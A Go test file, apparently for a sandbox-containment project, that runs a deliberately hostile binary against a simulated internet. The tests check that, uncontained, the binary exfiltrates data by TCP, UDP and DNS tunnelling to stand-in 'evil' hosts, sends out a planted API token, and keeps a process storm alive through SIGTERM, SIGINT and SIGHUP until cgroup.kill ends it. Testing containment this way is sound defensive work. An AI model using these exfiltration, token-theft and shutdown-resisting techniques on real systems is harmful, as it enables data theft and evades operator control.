package main_test

import (
	"context"
	"errors"
	"fmt"
	"net/netip"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"tagout/internal/cgroup"
	"tagout/internal/instance"
	"tagout/internal/practice"
	"tagout/internal/testroot"
)

const within = 20 * time.Second

// build returns the static binary, as it goes into a kid.
func build(t *testing.T) string {
	t.Helper()
	bin := filepath.Join(t.TempDir(), "hostile")
	cmd := exec.CommandContext(deadline(t), "go", "build", "-o", bin, ".")
	cmd.Env = append(os.Environ(), "CGO_ENABLED=0")
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("building: %v\n%s", err, out)
	}
	return bin
}

func deadline(t *testing.T) context.Context {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), 2*time.Minute)
	t.Cleanup(cancel)
	return ctx
}

func internet(t *testing.T, name string) (instance.Instance, *practice.Internet) {
	t.Helper()
	testroot.Require(t)
	inst, err := instance.Claim(name)
	if err != nil {
		t.Fatal(err)
	}
	n, err := practice.Start(deadline(t), practice.Options{Instance: inst})
	t.Cleanup(func() {
		if err := errors.Join(practice.Cleanup(inst), os.RemoveAll(inst.RunDir()), inst.Release()); err != nil {
			t.Error(err)
		}
	})
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { n.Close() }) // Cleanup follows
	return inst, n
}

// TestUncontainedItGetsOut shows that "denied" is earned: where nothing contains it, every way gets out.
func TestUncontainedItGetsOut(t *testing.T) {
	bin := build(t)
	_, n := internet(t, "thosout")
	at := func(a netip.Addr, port uint16) string { return netip.AddrPortFrom(a, port).String() }
	for _, way := range [][]string{
		{"tcp", at(n.EvilAddr(), 443)},
		{"tcp", at(n.APIAddr(), practice.PortOther)},
		{"dns", at(n.DNSAddr(), 53), "exfil.evil.test"},
		{"tcp", at(n.EvilAddr(), 853)},
		{"udp", at(n.EvilAddr(), 443)},
		{"tcp", at(n.EvilAddr6(), 443)},
	} {
		args := append([]string{"try", "1", "way"}, way...)
		out, err := exec.CommandContext(deadline(t), bin, args...).CombinedOutput()
		if err != nil || !strings.HasPrefix(string(out), "way 1 way: GOT OUT after ") {
			t.Errorf("%v: %v %s", way, err, out)
		}
	}
	if contacts, bytes := n.Attacker.Total(); contacts != 5 || bytes == 0 {
		t.Errorf("the attacker saw %d contacts and %d bytes, want 5 and some", contacts, bytes)
	}
	if n.DNS.Count("exfil.evil.test") == 0 {
		t.Error("the DNS query did not arrive")
	}
}

// TestUncontainedNamesCarryData shows that dnsleak leaks where nothing stops it, below any domain.
func TestUncontainedNamesCarryData(t *testing.T) {
	bin := build(t)
	_, n := internet(t, "thosleak")
	for _, style := range []string{"base32", "hex", "words"} {
		domain := style + "." + practice.NameEvil
		out, err := exec.CommandContext(deadline(t), bin, "dnsleak", "-n", "8", "-style", style, "-port", "81",
			"-server", netip.AddrPortFrom(n.DNSAddr(), 53).String(), domain).CombinedOutput()
		if err != nil || !strings.Contains(string(out), "8 names, 8 answered") {
			t.Errorf("%s: %v %s", style, err, out)
		}
		if got := n.DNS.Count(domain); got < 8 {
			t.Errorf("%s: %d queries arrived", style, got)
		}
	}
}

func TestRefusedIsDenied(t *testing.T) {
	bin := build(t)
	_, n := internet(t, "thosref")
	// Nobody listens on that port: the kernel resets.
	out, err := exec.CommandContext(deadline(t), bin, "try", "2", "a b", "tcp", netip.AddrPortFrom(n.EvilAddr(), 81).String()).CombinedOutput()
	if err != nil || !regexp.MustCompile(`^way 2 a b: denied after [0-9.]+ms: .*refused\n$`).Match(out) {
		t.Errorf("%v %q", err, out)
	}
}

// cage makes a cgroup with a pids limit and returns its v2 directory and the directories to join.
func cage(t *testing.T, inst instance.Instance, limit int) (dir string, join []string) {
	t.Helper()
	layout, err := cgroup.Detect()
	if err != nil {
		t.Fatal(err)
	}
	rel := inst.KidsCgroupRel() + "/agent"
	if err := layout.Create(rel); err != nil {
		t.Fatal(err)
	}
	dir = layout.V2(rel)
	join, pids := []string{dir}, dir
	if v1 := layout.V1("pids", rel); v1 != "" {
		if err := os.MkdirAll(v1, 0o755); err != nil {
			t.Fatal(err)
		}
		join, pids = append(join, v1), v1
	}
	t.Cleanup(func() {
		ctx, cancel := context.WithTimeout(context.Background(), within)
		defer cancel()
		if err := errors.Join(cgroup.Kill(dir), cgroup.WaitEmpty(ctx, dir), layout.Remove(ctx, inst.CgroupRel())); err != nil {
			t.Error(err)
		}
	})
	if err := os.WriteFile(filepath.Join(pids, "pids.max"), []byte(fmt.Sprint(limit)), 0); err != nil {
		t.Fatal(err)
	}
	return dir, join
}

func TestAgentResistsAllButTheCgroup(t *testing.T) {
	bin := build(t)
	inst, n := internet(t, "thosagent")
	const limit = 200
	dir, join := cage(t, inst, limit)
	script := ""
	for _, d := range join {
		script += "echo $$ > " + filepath.Join(d, "cgroup.procs") + "; "
	}
	agent := exec.CommandContext(deadline(t), "sh", "-c", script+`exec "$0" agent -parts ticks,bulk,storm -tag a -ticks "$1"`,
		bin, netip.AddrPortFrom(n.TicksAddr(), practice.PortTicks).String())
	agent.Env = append(os.Environ(), "VENDOR_API_KEY=tgo_stolen")
	if err := agent.Start(); err != nil {
		t.Fatal(err)
	}
	go agent.Wait() // killed

	wait, cancel := context.WithTimeout(t.Context(), within)
	defer cancel()
	state := func() (procs int, ticks, refused, bulk int64) {
		pids, err := cgroup.Procs(dir)
		if err != nil {
			t.Fatal(err)
		}
		for _, st := range n.Sink.Streams("a") {
			ticks += st.Ticks
			refused = max(refused, st.Refusals)
			if st.Kind == "bulk" {
				bulk += st.Bytes
			}
		}
		return len(pids), ticks, refused, bulk
	}
	err := practice.Wait(wait, "it is at its limit and sends", func() bool {
		procs, ticks, refused, bulk := state()
		return procs > limit/2 && ticks > 20 && refused > 0 && bulk > 1<<20
	})
	if err != nil {
		t.Fatal(err, fmt.Sprint(state()))
	}
	if n.Sink.Token("a") != "tgo_stolen" {
		t.Errorf("token %q", n.Sink.Token("a"))
	}
	// A polite stop: every process gets SIGTERM, SIGINT and SIGHUP, and the ticks go on.
	pids, err := cgroup.Procs(dir)
	if err != nil {
		t.Fatal(err)
	}
	for _, pid := range pids {
		p, err := os.FindProcess(pid)
		if err != nil {
			t.Fatal(err)
		}
		for _, sig := range []os.Signal{syscall.SIGTERM, syscall.SIGINT, syscall.SIGHUP} {
			p.Signal(sig) // one that is gone is replaced by the storm
		}
	}
	_, ticked, _, _ := state()
	err = practice.Wait(wait, "it goes on after signals", func() bool { _, ticks, _, _ := state(); return ticks > ticked+20 })
	if procs, _, _, _ := state(); err != nil || procs < len(pids)/2 {
		t.Fatalf("%v: %d processes of %d live after signals", err, procs, len(pids))
	}
	if err := cgroup.Kill(dir); err != nil {
		t.Fatal(err)
	}
	if err := cgroup.WaitEmpty(wait, dir); err != nil {
		t.Errorf("it outlived cgroup.kill: %v", err)
	}
}
